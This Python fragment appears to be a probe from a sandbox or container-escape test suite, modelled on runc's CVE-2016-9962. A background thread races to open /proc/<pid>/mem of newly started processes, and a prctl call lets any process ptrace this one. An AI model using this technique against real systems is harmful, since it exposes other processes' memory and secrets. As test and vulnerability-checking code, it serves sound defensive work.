"""The first watches for a process that starts, and reads it before it could protect itself (CVE-2016-9962 was runc's)."""
import threading


def watch(me, known):
    while not me.found:
        for pid in set(filter(str.isdigit, os.listdir("/proc"))) - known - {str(os.getpid())}:
            try:
                with open(f"/proc/{pid}/mem", "rb"):
                    me.found.append(pid)
            except OSError:
                continue
        time.sleep(0.001)


def plant(me):
    me.found = []
    known = set() if os.getpid() == 1 else set(filter(str.isdigit, os.listdir("/proc")))
    threading.Thread(target=watch, args=(me, known), daemon=True).start()


def look(me):
    libc.prctl(0x59616d61, ctypes.c_ulong(-1), 0, 0, 0)  # PR_SET_PTRACER: Yama would ask for it
    time.sleep(0.2)  # what is to be read is still there


def saw(me):
    return me.found
